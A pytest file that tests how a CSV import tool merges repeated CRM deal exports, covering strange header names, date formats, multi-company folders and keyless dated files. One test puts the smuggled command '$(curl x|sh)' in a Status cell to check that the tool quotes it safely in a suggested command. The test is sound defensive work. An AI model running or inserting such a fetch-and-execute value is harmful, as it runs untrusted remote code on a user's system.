"""Exports that come again: what a newer file says is told from what an older one said."""

import pytest

HEADERS = (
    "Record", "Reason", "First", "Value", "Header", "v", "t", "c0", "n", "Records", "rowid",
    "ROWID", "_key", "_KEY", "_Record", "_hash", "_fate", "_import", 'a"b', "a'b", "{x}", "%s",
    "$1", "100% sure", "a;b", "key", "match", "place", "r.x", "_was", "_last", "was", "lasting",
)  # fmt: skip


def _cell(text):
    return '"' + text.replace('"', '""') + '"'


@pytest.mark.parametrize("headers", [HEADERS[at : at + 7] for at in range(0, len(HEADERS), 7)])
def test_a_header_may_be_called_as_anything_within_is(store, written, headers):
    head = f"Deal ID,Deal Name,Stage,Amount,Close Date,{','.join(map(_cell, headers))}\n"

    def rows(*rows):
        return head + "".join(f"{row},{','.join([cell] * len(headers))}\n" for row, cell in rows)

    (one,) = store.take(
        written(
            "deals.csv",
            rows(
                ("1,A,Open,100,2024-01-13", "red"),
                ("2,B,Open,200,2024-02-13", "blue"),
                ("2,B,Open,200,2024-02-13", "green"),
                ("3,C,Open,300,2024-03-33", "red"),
                (",,,,", ""),
                ("4,D,Open,400,2024-04-13", ""),
                ("Total,,,1000,", ""),
            ),
        )
    ).files
    assert (one.loaded, one.rejected) == (3, 2)
    (two,) = store.take(
        written(
            "deals.csv",
            rows(
                ("1,A,Open,100,2024-01-13", "red"),
                ("2,B,Open,250,2024-02-13", "green"),
                ("3,C,Open,300,2024-03-13", "red"),
                ("4,D,Open,400,2024-04-13", ""),
                ("Total,,,1050,", ""),
            ),
        )
    ).files
    assert (two.loaded, two.updated, two.unchanged, two.rejected) == (1, 1, 2, 0)
    own = [each.field for each in two.columns][-len(headers) :]
    assert len(set(own)) == len(headers)
    for field in own:
        found = store.ask(f'SELECT name, amount_original, "{field}" FROM mapped_deals ORDER BY id')
        assert found == [
            ("A", 100, "red"),
            ("B", 250, "green"),
            ("C", 300, "red"),
            ("D", 400, None),
        ]


DATED = "Deal ID,Deal Name,Stage,Amount,Close Date,Probability\n"


def test_what_a_newer_export_leaves_out_is_read_as_its_own_file_wrote_it(store, written):
    store.take(
        written("deals.csv", DATED + "1,A,Open,10,25/12/2024,20\n2,B,Open,20,03/04/2024,50\n")
    )
    (two,) = store.take(
        written("deals.csv", DATED + "1,A,Open,10,12/25/2024,0.2\n2,B,Open,21,05/04/2024,0.5\n")
    ).files
    assert "Its Close Date is written in another way than before: mdy." in two.messages
    assert any("Probability" in each and "0.2 is 20 %" in each for each in two.messages)
    wanted = [("A", "2024-12-25", 0.2), ("B", "2024-05-04", 0.5)]
    asked = "SELECT name, closed_on::VARCHAR, probability FROM mapped_deals ORDER BY id"
    assert store.ask(asked) == wanted
    store.take(written("deals.csv", "Deal ID,Deal Name,Stage,Amount\n1,A,Open,10\n2,Bee,Open,21\n"))
    assert store.ask(asked) == [wanted[0], ("Bee", *wanted[1][1:])]
    (last,) = store.take(
        written("deals.csv", "Deal ID,Deal Name,Stage,Amount\n1,A,Open,10\n2,Bee,Open,22\n")
    ).files
    assert (last.updated, last.unchanged) == (1, 1)
    assert store.ask(asked) == [wanted[0], ("Bee", *wanted[1][1:])]


def test_a_day_that_could_be_either_goes_by_the_rest_of_its_own_file(store, written):
    head = "Deal ID,Deal Name,Stage,Amount,Create Date,Close Date\n"
    store.take(written("deals.csv", head + "1,A,Open,10,25/12/2023,13/04/2024\n"))
    store.take(written("deals.csv", head + "2,B,Open,20,12/25/2023,03/04/2024\n"))
    asked = "SELECT name, closed_on::VARCHAR FROM mapped_deals ORDER BY id"
    assert store.ask(asked) == [("A", "2024-04-13"), ("B", "2024-03-04")]


NORWAY = "Id,Deal Name,Stage,Amount\n1,Fjord,Won,10\n2,Fjell,Open,20\n3,Foss,Open,30\n"
SWEDEN = "Id,Deal Name,Stage,Amount\n1,Skog,Won,11\n2,Berg,Open,20\n3,Sjö,Open,30\n"
PEOPLE = "Id,Name,Email\n1,Ann,ann@example.com\n2,Bo,bo@example.com\n"


def test_a_second_companys_export_does_not_overwrite_the_firsts(store, written):
    written("norway/deals.csv", NORWAY)
    folder = written("norway/users.csv", PEOPLE).parent
    store.take(folder)
    written("sweden/deals.csv", SWEDEN)
    other = written("sweden/users.csv", PEOPLE.replace("bo@", "bosse@")).parent
    account = store.take(other)
    assert {each.system for each in account.files} == {"sweden"}
    told = "It has the columns of deals (norway), but not its records: kept apart, in sweden."
    assert told in account.files[0].messages
    names = store.ask("SELECT id, name FROM mapped_deals ORDER BY id")
    assert ("norway:1", "Fjord") in names
    assert ("sweden:1", "Skog") in names
    assert len(names) == 6
    written("sweden/deals.csv", SWEDEN.replace("Skog", "Skogen"))
    assert {each.system for each in store.take(other).files} == {"sweden"}
    assert len(store.ask("SELECT id FROM mapped_deals")) == 6


def test_an_export_in_a_folder_of_another_day_is_a_newer_one(store, written):
    store.take(written("january/deals.csv", NORWAY).parent)
    (newer,) = store.take(written("february/deals.csv", NORWAY.replace("10", "15")).parent).files
    assert (newer.system, newer.updated, newer.unchanged) == ("january", 1, 2)


KEYLESS = "Deal Name,Stage,Amount\nA,Open,100\nB,Open,200\nC,Won,300\n"


def test_a_dated_export_without_ids_replaces_that_of_an_earlier_date(store, written):
    store.take(written("pipeline 2024-01.csv", KEYLESS + "A,Open,5\n"))
    (newer,) = store.take(
        written("pipeline 2024-02.csv", KEYLESS.replace("100", "150") + "A,Open,5\n")
    ).files
    assert any("this file replaces import 1" in each for each in newer.messages)
    assert store.ask("SELECT sum(amount_original)::INT FROM mapped_deals") == [(655,)]


def test_a_dated_file_without_ids_of_other_records_stands_beside_and_is_said_to(store, written):
    store.take(written("pipeline 2024-01.csv", KEYLESS + "A,Open,5\n"))
    (other,) = store.take(
        written("pipeline 2024-02.csv", "Deal Name,Stage,Amount\nX,Open,1\nX,Open,2\nY,Won,3\n")
    ).files
    assert any("added beside" in each for each in other.messages)
    assert store.ask("SELECT sum(amount_original)::INT FROM mapped_deals") == [(611,)]


def test_an_id_that_has_its_system_before_it_is_known_by_name(store, written):
    users = written("users.csv", "Id,Name,Email\nfiles:u1,Ann,ann@example.com\n")
    deals = written("deals.csv", "Id,Deal Name,Stage,Amount,Owner\n1,A,Open,10,Ann\n")
    store.take(users, deals)
    assert store.ask("SELECT owner_id FROM mapped_deals") == [("files:u1",)]


def test_a_command_that_is_offered_can_be_copied_safely(store, written):
    path = written("deals.csv", "Id,Deal Name,Status,Amount\n1,A,$(curl x|sh),10\n2,B,Open,20\n")
    (account,) = store.take(path).files
    told = next(each for each in account.messages if "curl" in each)
    assert "rapport alias status '$(curl x|sh)=Won'" in told


def test_a_newer_export_may_write_its_headers_in_other_case(store, written):
    store.take(written("deals.csv", NORWAY))
    head, rows = NORWAY.split("\n", 1)
    store.take(written("deals.csv", f"{head.upper()}\n{rows.replace('10', '11')}"))
    asked = "SELECT name, amount_original::INT FROM mapped_deals ORDER BY id"
    assert store.ask(asked) == [("Fjord", 11), ("Fjell", 20), ("Foss", 30)]
